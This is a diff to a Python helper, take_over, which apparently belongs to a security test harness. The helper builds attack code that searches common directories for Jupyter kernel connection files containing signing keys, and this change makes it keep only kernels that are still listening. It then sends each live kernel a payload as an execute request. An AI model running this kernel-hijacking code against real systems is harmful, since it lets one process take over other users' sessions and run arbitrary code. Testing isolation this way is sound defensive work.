@@ -29,16 +29,20 @@ def take_over(marker: str, payload: str) -> str:
     """Attack code: every connection file it can find, sent ``payload`` as an execute request."""
     return textwrap.dedent(
         f"""
-        import json, os
+        import json, os, socket
         from jupyter_client import BlockingKernelClient
         places = [{jupyter_runtime_dir()!r}, os.path.expanduser('~/.local/share/jupyter/runtime'),
                   '/tmp', '/dev/shm', '/run/user', '/root/.local/share/jupyter/runtime']
         def connection(path):
+            # A kernel's connection file, of a kernel that still listens (a dead one's port refuses).
             try:
                 with open(path) as f:
                     info = json.load(f)
-                return isinstance(info, dict) and 'key' in info and 'shell_port' in info
-            except (OSError, ValueError):
+                if not (isinstance(info, dict) and 'key' in info and 'shell_port' in info):
+                    return False
+                socket.create_connection((info.get('ip') or '127.0.0.1', info['shell_port']), 1).close()
+                return True
+            except (OSError, ValueError, TypeError):
                 return False
         def found():
             # A few levels under each place, as a search that must finish would look; newest first.
